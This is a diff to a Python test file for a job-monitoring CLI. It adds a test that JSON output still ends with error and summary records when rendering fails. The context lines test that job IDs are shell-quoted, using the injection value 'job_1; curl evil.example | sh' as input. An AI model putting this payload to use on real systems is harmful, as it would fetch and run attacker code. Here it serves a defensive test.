@@ -119,3 +119,21 @@ def test_ids_in_printed_commands_are_shell_quoted() -> None:
     attach, cancel = reattach_commands("job_1; curl evil.example | sh", "http://127.0.0.1:8000/api")
     assert shlex.split(attach)[-3:] == ["job_1; curl evil.example | sh", "--backend", "http://127.0.0.1:8000"]
     assert shlex.split(cancel)[2] == "job_1; curl evil.example | sh"
+
+
+def test_with_json_a_defect_still_ends_with_an_error_record_and_a_summary(stubs) -> None:
+    from synthlaunch.render.jsonl import JsonRenderer
+
+    class Broken(JsonRenderer):
+        def event(self, event):  # a defect of the tool while drawing
+            raise RuntimeError("drawing failed")
+
+    backend = _hostile_backend(stubs, "job_4")
+    stdout = io.StringIO()
+    out = Output(json_mode=True, stdout=stdout, stderr=io.StringIO())
+    with pytest.raises(RuntimeError):
+        watch_job(SynthClient(backend.url + "/api", KEY, policy=FAST), "job_4", kind="sft",
+                  renderer=Broken(out, job_id="job_4"), poll_timeout=5, poll_interval=0.1)
+    records = [json.loads(line) for line in stdout.getvalue().splitlines()]
+    assert [r["record"] for r in records[-2:]] == ["error", "summary"]
+    assert records[-2]["exit_code"] == 70 and records[-1]["exit_code"] == 70
